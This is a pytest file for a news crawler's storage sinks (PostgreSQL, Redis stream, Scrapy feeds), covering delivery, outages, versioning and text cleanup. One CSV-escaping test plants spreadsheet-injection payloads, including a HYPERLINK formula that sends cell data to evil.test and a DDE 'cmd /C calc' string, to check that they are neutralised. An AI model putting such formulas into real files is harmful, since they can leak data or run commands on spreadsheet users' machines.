"""Where kept articles go: PostgreSQL (a real server), a Redis stream, Scrapy's FEEDS, and
the feed files; an article is kept only once every sink has it, and none gets it twice."""

from __future__ import annotations

import json
from collections import Counter
from datetime import datetime

import pytest

from news_crawler.pipelines.postgres import SCHEMA_VERSION
from news_mirror.server import start
from tests.crawl_helpers import crawl, load, wait_for

psycopg = pytest.importorskip("psycopg", reason="psycopg is not installed (pip install -e '.[test]')")
pytest.importorskip("pgserver", reason="the pgserver wheel (a PostgreSQL for the tests) is not installed")
pytestmark = pytest.mark.xdist_group("postgres")  # one worker: one server for the module


@pytest.fixture(scope="module")
def postgres():
    from tests.postgres_server import TestPostgres

    server = TestPostgres()
    yield server
    server.close()


@pytest.fixture
def database(postgres):
    with psycopg.connect(postgres.url, autocommit=True) as conn:
        conn.execute("DROP TABLE IF EXISTS articles, article_versions, news_crawler_schema")
    return postgres


def rows(url: str) -> dict[str, dict]:
    with psycopg.connect(url) as conn:
        cur = conn.execute("SELECT * FROM articles")
        names = [c.name for c in cur.description]
        return {r[0]: dict(zip(names, r)) for r in cur.fetchall()}


def stream_items(client, key: str) -> list[dict]:
    return [json.loads(fields[b"item"]) for _, fields in client.xrange(key)]


def same(line: dict, row: dict) -> bool:
    """A feed line and its row say the same (times compared as instants)."""
    for name, value in line.items():
        if name in ("published_at", "crawled_at", "updated_at"):
            if (datetime.fromisoformat(value) if value else None) != row[name]:
                return False
        elif row[name] != value:
            return False
    return True


def test_every_sink_holds_what_the_feed_holds_after_a_crawl_of_the_mirror(
    tmp_path, redis_server, redis_client, database
):
    mirror, server, url = start()
    try:
        settings = {
            "DATABASE_URL": database.url,
            "ITEMS_REDIS_STREAM": "%(spider)s:stream",
            "FEEDS": json.dumps({str(tmp_path / "scrapy-%(name)s.csv"): {"format": "csv", "fields": ["url", "title"]}}),
        }
        summary, items = crawl(tmp_path, redis_server.url, url, spiders=["sina", "qq"], settings=settings)
    finally:
        server.shutdown()
    assert items and summary["failed"] == []
    assert "playwright" not in (tmp_path / "run.log").read_text()  # only a browser site starts a browser
    table = rows(database.url)
    assert set(table) == {i["url"] for i in items} and len(table) == len(items)
    assert all(same(i, table[i["url"]]) for i in items)
    assert all(r["first_crawled_at"] == r["last_crawled_at"] == r["crawled_at"] for r in table.values())
    streamed = stream_items(redis_client, "sina:stream") + stream_items(redis_client, "qq:stream")
    assert sorted(json.dumps(i, sort_keys=True) for i in streamed) == sorted(
        json.dumps(i, sort_keys=True) for i in items
    )
    scrapy_feed = {line.split(",")[0] for f in tmp_path.glob("scrapy-*.csv") for line in f.read_text().splitlines()[1:]}
    assert scrapy_feed == {i["url"] for i in items}
    with psycopg.connect(database.url) as conn:
        assert conn.execute("SELECT version FROM news_crawler_schema").fetchall() == [(SCHEMA_VERSION,)]


def test_a_feed_that_cannot_take_an_article_fails_it_and_the_next_run_writes_it_once(
    tmp_path, redis_server, redis_client
):
    """FEEDS as a sink: an export that raises is the article's error (the crawl exits 1, the
    other sinks' copies are recorded); the next run writes it to that feed and nowhere twice."""
    mirror, server, url = start()
    sina = mirror.catalog.pages.items()
    victim = sorted(u for u, p in sina if p.site == "sina" and p.day == 1 and not p.reprint_of)[0]
    scrapy_feed = tmp_path / "scrapy.jsonl"

    def settings(fail_url: str) -> dict[str, str]:
        feed = {"format": "failing", "item_export_kwargs": {"fail_url": fail_url}}
        return {
            "FEED_EXPORTERS": json.dumps({"failing": "tests.failing_pipeline.FailingJsonLinesExporter"}),
            "FEEDS": json.dumps({str(scrapy_feed): {**feed, "overwrite": False}}),
            "RETRY_TIMES": "0",
        }

    try:
        run1 = crawl(
            tmp_path, redis_server.url, url, spiders=["sina"], name="run1", settings=settings(victim), wait=False
        )
        assert run1.wait(300) == 1  # an article was not kept everywhere: the run says so
        log = (tmp_path / "run1.log").read_text()
        assert "FEEDS could not take the article (OSError: the feed's disk is full)" in log
        first = [json.loads(line)["url"] for line in scrapy_feed.read_text().splitlines()]
        assert first and victim not in first
        _, items2 = crawl(tmp_path, redis_server.url, url, spiders=["sina"], name="run2", settings=settings(""))
    finally:
        server.shutdown()
    written = Counter(json.loads(line)["url"] for line in scrapy_feed.read_text().splitlines())
    fed = Counter(i["url"] for i in load(tmp_path / "run1")[1] + items2)
    assert written[victim] == 1 and max(written.values()) == 1 and max(fed.values()) == 1
    assert set(written) == set(fed)


def test_a_database_stopped_mid_crawl_loses_nothing_and_duplicates_nothing(
    tmp_path, redis_server, redis_client, database
):
    """The real server is stopped while the crawl is held mid-way (the mirror answers six
    articles, then waits) and started again once the articles after the stop were refused;
    the refused ones are errors, written by the next run; no sink has one twice."""
    import threading

    mirror, server, url = start()
    mirror.gate, mirror.gate_after = threading.Event(), 6
    settings = {"DATABASE_URL": database.url, "DATABASE_TIMEOUT": "2", "ITEMS_REDIS_STREAM": "news:stream"}
    try:
        proc = crawl(tmp_path, redis_server.url, url, spiders=["sina"], name="run1", settings=settings, wait=False)
        try:
            wait_for(lambda: len(rows_or_none(database.url)) >= 1, 120, "a row in the database")
            database.stop()
            mirror.gate.set()  # the rest of the articles now, with the database down
            wait_for(lambda: "PostgreSQL did not take" in (tmp_path / "run1.log").read_text(), 120, "a refused write")
            database.start()
            assert proc.wait(300) != 0  # articles were not kept: the run says so
        finally:
            mirror.gate.set()
            proc.kill()
        refused = (tmp_path / "run1.log").read_text().count("PostgreSQL did not take")
        summary, _ = crawl(tmp_path, redis_server.url, url, spiders=["sina"], name="run2", settings=settings)
    finally:
        server.shutdown()
    feed = load(tmp_path / "run1")[1] + load(tmp_path / "run2")[1]
    counts = Counter(i["url"] for i in feed)
    assert refused >= 1 and summary["sites"]["sina"]["kept"] >= 1
    assert max(counts.values()) == 1  # no feed line twice
    assert set(rows(database.url)) == set(counts)  # every kept article in the database, nothing else
    streamed = Counter(i["url"] for i in stream_items(redis_client, "news:stream"))
    assert streamed == counts
    assert redis_client.hlen("news:deliveries") == 0  # every partial delivery was completed


def rows_or_none(url: str) -> dict:
    try:
        return rows(url)
    except psycopg.Error:
        return {}


def test_a_database_that_cannot_be_used_is_one_line(database):
    from news_crawler.errors import UserError
    from news_crawler.pipelines.postgres import PostgresPipeline
    from tests.crawl_helpers import project_crawler
    from tests.redis_server import free_port

    def open_with(url: str) -> str:
        with pytest.raises(UserError) as e:
            PostgresPipeline.from_crawler(project_crawler(settings_dict={"DATABASE_URL": url, "DATABASE_TIMEOUT": 2}))
        return str(e.value)

    said = open_with(f"postgresql://postgres:secret@127.0.0.1:{free_port()}/postgres")
    assert said.startswith("DATABASE_URL: PostgreSQL at 127.0.0.1:") and "start it or fix the URL" in said
    assert "secret" not in said and "\n" not in said
    with psycopg.connect(database.url, autocommit=True) as conn:
        conn.execute("CREATE TABLE news_crawler_schema (version integer NOT NULL)")
        conn.execute("INSERT INTO news_crawler_schema VALUES (7)")
    said = open_with(database.url)
    assert f"schema version 7, this crawler writes version {SCHEMA_VERSION}" in said


def test_a_new_version_replaces_the_row_and_the_one_before_moves_to_article_versions(database, redis_server):
    import asyncio

    from news_crawler.items import ArticleItem
    from news_crawler.pipelines.postgres import PostgresPipeline
    from tests.crawl_helpers import project_crawler

    crawler = project_crawler(settings_dict={"DATABASE_URL": database.url, "REDIS_URL": redis_server.url})
    pipeline = PostgresPipeline.from_crawler(crawler)
    fields = {"site": "a", "author": "", "published_at": "", "simhash": "0" * 16, "editor": "", "source": ""}

    def article(version: int, title: str, crawled: str) -> ArticleItem:
        return ArticleItem(
            url="https://a.cn/1.html",
            title=title,
            body=f"{title}。正文",
            version=version,
            crawled_at=crawled,
            tags=["要闻"],
            **fields,
        )

    async def write(*items: ArticleItem) -> None:
        for item in items:  # one after another: a recheck's version comes after the first
            await pipeline.process_item(item)

    asyncio.run(write(article(1, "初稿", "2026-11-01T00:00:00+00:00"), article(1, "初稿", "2026-11-02T00:00:00+00:00")))
    asyncio.run(write(article(2, "改稿", "2026-11-03T00:00:00+00:00")))
    pipeline.close_spider()
    (row,) = rows(database.url).values()
    assert (row["title"], row["version"], row["tags"], row["published_at"]) == ("改稿", 2, ["要闻"], None)
    assert str(row["first_crawled_at"].date()) == "2026-11-01" and str(row["last_crawled_at"].date()) == "2026-11-03"
    with psycopg.connect(database.url) as conn:
        assert conn.execute("SELECT url, version, title FROM article_versions").fetchall() == [
            ("https://a.cn/1.html", 1, "初稿")
        ]


@pytest.mark.parametrize(
    "setting, says",
    [
        ("DATABASE_URL=postgresql://news:secret@127.0.0.1:{port}/news", "DATABASE_URL: PostgreSQL at 127.0.0.1:"),
        ('FEEDS={{"s3://bucket/%(name)s.jsonl": {{"format": "jsonlines"}}}}', "FEEDS: Scrapy cannot write s3://"),
    ],
)
def test_a_sink_that_cannot_be_used_stops_the_crawl_in_one_line_before_it_starts(setting, says, redis_server):
    import subprocess
    import sys

    from tests.crawl_helpers import ROOT
    from tests.redis_server import free_port

    cmd = [sys.executable, "-m", "news_crawler.cli.crawler", "crawl", "sina", "-s", f"REDIS_URL={redis_server.url}"]
    cmd += ["-s", setting.format(port=free_port()), "-s", "DATABASE_TIMEOUT=2"]
    run = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=120)
    last = run.stderr.strip().splitlines()[-1]
    assert run.returncode == 2 and last.startswith(f"news-crawler: {says}"), run.stderr[-2000:]
    assert "secret" not in run.stderr and "Traceback" not in run.stderr


def test_text_postgresql_refuses_is_made_storable_and_every_article_of_the_batch_is_written(
    tmp_path, redis_server, database, sina_articles
):
    """U+0000 and other controls from a page's JSON-LD (author, keywords, description, the
    headline) reach every sink without them: all eight articles of the crawl are rows, the run
    exits 0, no traceback."""
    from tests.hostile_web import HostileWeb, article, list_page
    from tests.test_hostile_web import feed_items, run_crawl

    texts = [a for a in sina_articles if len(a["body"]) > 600][3::23][:8]
    web = HostileWeb()
    try:
        for n, t in enumerate(texts):
            head = ""
            if n % 2 == 0:  # every other article carries what PostgreSQL refuses
                ld = {
                    "@type": "NewsArticle",
                    "headline": t["title"] + "\x00",
                    "author": {"name": "王\x00芳\x07"},
                    "keywords": ["财经\x00", "股市"],
                    "description": "摘要\x00\x1b内容",
                }
                head = f"<script type='application/ld+json'>{json.dumps(ld)}</script>"
            web.add(f"/news/{n}.html", article(t["title"], t["body"], head=head))
        start = web.add("/list.html", list_page([f"/news/{n}.html" for n in range(8)]))
        code, log = run_crawl(tmp_path, redis_server.url, "nul", [start], DATABASE_URL=database.url, DATABASE_BATCH=8)
    finally:
        web.stop()
    assert code == 0 and "Traceback" not in log, log[-3000:]
    items = feed_items(tmp_path / "nul")
    table = rows(database.url)
    assert len(items) == 8 and set(table) == {i["url"] for i in items}
    authors = {r["author"] for r in table.values()}
    assert "王芳" in authors and not any("\x00" in str(v) for r in table.values() for v in r.values())
    assert all(same(i, table[i["url"]]) for i in items)  # the feed says what the database says


@pytest.mark.parametrize("batch", [8, 2])
def test_a_row_the_database_refuses_is_one_article_not_kept_never_its_batch_mates(
    redis_server, database, caplog, batch
):
    """Batches (of eight; of two) in which the database refuses one row (a CHECK it fails):
    that batch is written again row by row, seven are rows, the eighth fails alone with the
    reason."""
    import asyncio

    from news_crawler.crawl.counts import stat_name
    from news_crawler.pipelines.delivery import SinkError
    from news_crawler.pipelines.postgres import PostgresPipeline, open_pool
    from tests.crawl_helpers import project_crawler

    pool = open_pool(database.url, 2, 5)
    with psycopg.connect(database.url, autocommit=True) as conn:
        conn.execute("ALTER TABLE articles ADD CONSTRAINT no_refuse CHECK (title NOT LIKE '%refuse%')")
    crawler = project_crawler(settings_dict={"REDIS_URL": redis_server.url})
    pipeline = PostgresPipeline(crawler, pool, batch=batch, timeout=5)
    items = [
        {
            "url": f"http://a.test/{n}",
            "site": "a",
            "title": "refuse" if n == 5 else f"t{n}",
            "crawled_at": "2026-12-01T10:00:00+08:00",
        }
        for n in range(8)
    ]

    async def main():
        return await asyncio.gather(*(pipeline.process_item(i) for i in items), return_exceptions=True)

    try:
        results = asyncio.run(main())
    finally:
        pipeline.close_spider()
    failed = [r for r in results if isinstance(r, BaseException)]
    assert len(failed) == 1 and isinstance(failed[0], SinkError)
    assert "CheckViolation" in str(failed[0]) and "http://a.test/5" in str(failed[0])
    assert set(rows(database.url)) == {f"http://a.test/{n}" for n in range(8) if n != 5}
    written, failed_n = (crawler.stats.get_value(stat_name("postgres", w)) for w in ("written", "failed"))
    assert (written, failed_n) == (7, 1)


def test_a_csv_feed_holds_no_live_formula_from_a_page(tmp_path, redis_server, sina_articles):
    """Cells a page controls that a spreadsheet would run (=HYPERLINK, +cmd, -, @SUM) reach a
    CSV written through FEEDS with a leading ', lists as JSON cells; the JSON feed unchanged."""
    import csv

    from tests.hostile_web import HostileWeb, article, list_page
    from tests.test_hostile_web import feed_items, run_crawl

    t = [a for a in sina_articles if len(a["body"]) > 600][7]
    title = '=HYPERLINK("http://evil.test/?"&A1,"点击")' + t["title"]
    ld = {
        "@type": "NewsArticle",
        "headline": title,
        "description": "+cmd|' /C calc'!A0",
        "keywords": ["@SUM(1+1)*cmd", "-2+3", t["body"][:4]],  # one of the article's: the page's own
    }
    web = HostileWeb()
    try:
        head = f"<script type='application/ld+json'>{json.dumps(ld)}</script>"
        web.add("/news/1.html", article(title, t["body"], head=head))
        start = web.add("/list.html", list_page(["/news/1.html"]))
        feeds = json.dumps({str(tmp_path / "out.csv"): {"format": "csv"}})
        code, log = run_crawl(tmp_path, redis_server.url, "csv", [start], FEEDS=feeds)
    finally:
        web.stop()
    assert code == 0, log[-3000:]
    [item] = feed_items(tmp_path / "csv")
    assert item["title"].startswith("=HYPERLINK") and item["description"].startswith("+cmd")  # JSON: as the page said
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        [line] = list(csv.DictReader(f))
    assert line["title"] == "'" + item["title"] and line["description"] == "'" + item["description"]
    assert json.loads(line["tags"]) == item["tags"] and "@SUM(1+1)*cmd" in item["tags"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line.values())


def test_the_csv_escape_can_be_turned_off_and_applies_to_every_first_character():
    import csv
    import io

    from news_crawler.pipelines.scrapy_feeds import CsvExporter

    def written(escape: bool, value: object) -> str:
        out = io.BytesIO()
        exporter = CsvExporter(out, escape_formulas=escape, fields_to_export=["a"])
        exporter.start_exporting()
        exporter.export_item({"a": value})
        exporter.finish_exporting()
        return list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))[1][0]

    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert written(True, first + "1") == "'" + first + "1" and written(False, first + "1") == first + "1"
    assert written(True, "a=1") == "a=1" and written(True, ["x", 1]) == '["x", 1]'
    # as Scrapy builds it for a feed: FEED_CSV_ESCAPE_FORMULAS decides (on unless set off)
    from scrapy import Spider

    from tests.crawl_helpers import project_crawler

    for setting, escape in (({}, True), ({"FEED_CSV_ESCAPE_FORMULAS": False}, False)):
        exporter = CsvExporter.from_crawler(project_crawler(Spider, settings_dict=setting), io.BytesIO())
        assert exporter.escape_formulas is escape


def test_a_row_written_again_at_its_version_moves_last_crawled_at_and_an_older_version_changes_nothing(
    redis_server, database
):
    import asyncio

    from news_crawler.pipelines.postgres import PostgresPipeline, open_pool
    from tests.crawl_helpers import project_crawler

    crawler = project_crawler(settings_dict={"REDIS_URL": redis_server.url})
    pipeline = PostgresPipeline(crawler, open_pool(database.url, 1, 5), batch=1, timeout=5)
    item = {"url": "http://a.test/1", "site": "a", "title": "v2", "version": 2}

    async def write(**fields):
        await pipeline.process_item({**item, **fields})

    try:
        asyncio.run(write(crawled_at="2026-12-01T10:00:00+00:00"))
        asyncio.run(write(crawled_at="2026-12-02T10:00:00+00:00"))  # the same version, fetched again
        asyncio.run(write(crawled_at="2026-12-03T10:00:00+00:00", version=1, title="v1"))  # an older one, late
    finally:
        pipeline.close_spider()
    row = rows(database.url)["http://a.test/1"]
    assert (row["title"], row["version"]) == ("v2", 2)
    assert row["first_crawled_at"] == datetime.fromisoformat("2026-12-01T10:00:00+00:00")
    assert row["last_crawled_at"] == datetime.fromisoformat("2026-12-02T10:00:00+00:00")
    with psycopg.connect(database.url) as conn:  # the current version is no earlier one
        assert conn.execute("SELECT count(*) FROM article_versions").fetchone() == (0,)


def test_a_date_without_a_time_of_day_is_midnight_in_timezone_not_in_the_servers_zone(redis_server, database):
    import asyncio

    from news_crawler.pipelines.postgres import PostgresPipeline, open_pool
    from tests.crawl_helpers import project_crawler

    crawler = project_crawler(settings_dict={"REDIS_URL": redis_server.url, "TIMEZONE": "Asia/Shanghai"})
    pipeline = PostgresPipeline(crawler, open_pool(database.url, 1, 5), batch=1, timeout=5)
    item = {"url": "http://a.test/d", "site": "a", "published_at": "2026-11-28", "crawled_at": "2026-11-28T12:00:00"}
    try:
        asyncio.run(pipeline.process_item(item))
    finally:
        pipeline.close_spider()
    row = rows(database.url)["http://a.test/d"]
    assert row["published_at"] == datetime.fromisoformat("2026-11-28T00:00:00+08:00")
    assert row["crawled_at"] == datetime.fromisoformat("2026-11-28T12:00:00+08:00")  # no offset: TIMEZONE's too


def test_a_two_page_article_in_postgresql_is_whole_through_its_rechecks(
    tmp_path, redis_server, database, sina_articles
):
    """Crawled, rechecked unchanged (no edit, the row as it was), then rechecked with its
    second page edited: the row is the whole new text, the version before it whole too."""
    from tests.hostile_web import HostileWeb, article, list_page
    from tests.test_hostile_web import feed_items, run_crawl

    first, second = [a for a in sina_articles if len(a["body"]) > 800][10:12]
    web = HostileWeb()
    more = "<p><a href='/news/1_2.html'>下一页</a></p>"
    web.add("/news/1.html", article(first["title"], first["body"], after=more))
    web.add("/news/1_2.html", article(first["title"], second["body"]))
    start = web.add("/list.html", list_page(["/news/1.html"]))
    url = f"{web.url}/news/1.html"
    run = {"RECHECK_AFTER": "0s,0s,1d", "DEDUP_NAMESPACE": "pg-pages", "DATABASE_URL": database.url}
    try:
        code, log = run_crawl(tmp_path, redis_server.url, "day1", [start], allow=r"/news/\d+\.html$", **run)
        assert code == 0, log[-3000:]
        (kept,) = feed_items(tmp_path / "day1")
        whole = kept["body"]
        assert first["body"].strip()[:20] in whole and second["body"].strip()[-12:] in whole  # both pages
        assert rows(database.url)[url]["body"] == whole and rows(database.url)[url]["version"] == 1
        code, log = run_crawl(
            tmp_path, redis_server.url, "same", [start], allow=r"/news/\d+\.html$", RECHECK=True, **run
        )
        assert "'rechecks/unchanged" in log and "'rechecks/edited" not in log, log[-3000:]
        assert feed_items(tmp_path / "same") == [] and rows(database.url)[url]["body"] == whole
        web.add("/news/1_2.html", article(first["title"], second["body"] + "\n（更正：第二页的数字有误，已改正。）"))
        code, log = run_crawl(
            tmp_path, redis_server.url, "edited", [start], allow=r"/news/\d+\.html$", RECHECK=True, **run
        )
        assert "'rechecks/edited" in log, log[-3000:]
    finally:
        web.stop()
    row = rows(database.url)[url]
    assert row["version"] == 2 and row["body"].startswith(whole) and row["body"].endswith("已改正。）")
    with psycopg.connect(database.url) as conn:
        ((before,),) = conn.execute("SELECT body FROM article_versions WHERE url = %s AND version = 1", (url,))
    assert before == whole
